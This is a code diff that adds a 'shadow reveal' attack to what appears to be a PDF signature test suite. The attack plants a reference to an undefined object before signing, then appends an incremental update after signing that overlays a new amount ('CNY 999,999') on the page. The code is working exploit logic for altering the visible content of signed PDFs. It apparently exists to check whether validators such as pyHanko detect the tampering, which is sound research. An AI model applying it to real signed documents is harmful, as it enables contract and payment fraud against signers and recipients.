@@ -377,3 +377,42 @@ def shadow_hide_and_replace(pdf: bytes) -> tuple[bytes, Attack]:
         return _write(w2)
 
     return prepared, attack
+
+
+def shadow_reveal_undefined_object(pdf: bytes, page: int = 0) -> tuple[bytes, Attack]:
+    """Hide, then reveal, through an object number nothing defines yet.
+
+    Before signing, the page's content array gets a reference to an object number
+    no cross-reference section defines: a reader draws nothing for it (ISO 32000-1
+    7.3.10: null). After signing, an update that only *adds* that object, a cover
+    box with a new amount, makes it visible. The update holds one new object and
+    nothing else; pyHanko finds it through the signed revision's use of the number."""
+    w = IncrementalPdfFileWriter(io.BytesIO(pdf))
+    page_dict = w.root["/Pages"]["/Kids"][page].get_object()
+    _ensure_helv(w, page_dict)
+    hidden = w.allocate_placeholder()  # reserved, never written: undefined in the signed file
+    _contents_array(page_dict).append(hidden)
+    w.update_container(page_dict)
+    prepared = _write(w)
+
+    def attack(signed: bytes) -> bytes:
+        cover = b"q 1 g 60 690 440 30 re f Q BT /PactumHelv 14 Tf 72 700 Td (Amount: CNY 999,999) Tj ET"
+        return _append_object(signed, hidden.idnum, b"<< /Length %d >>\nstream\n%s\nendstream" % (len(cover), cover))
+
+    return prepared, attack
+
+
+def _append_object(signed: bytes, idnum: int, body: bytes) -> bytes:
+    """An incremental update that only defines object ``idnum`` (a classic xref section)."""
+    trailer = PdfFileReader(io.BytesIO(signed)).trailer
+    prev = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
+    root = trailer.raw_get("/Root")
+    obj_pos = len(signed) + 1
+    obj = b"\n%d 0 obj\n%s\nendobj\n" % (idnum, body)
+    xref_pos = len(signed) + len(obj)
+    size = max(int(trailer["/Size"]), idnum + 1)
+    section = (
+        b"xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root %d %d R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
+        % (idnum, obj_pos, size, root.idnum, root.generation, prev, xref_pos)
+    )
+    return signed + obj + section
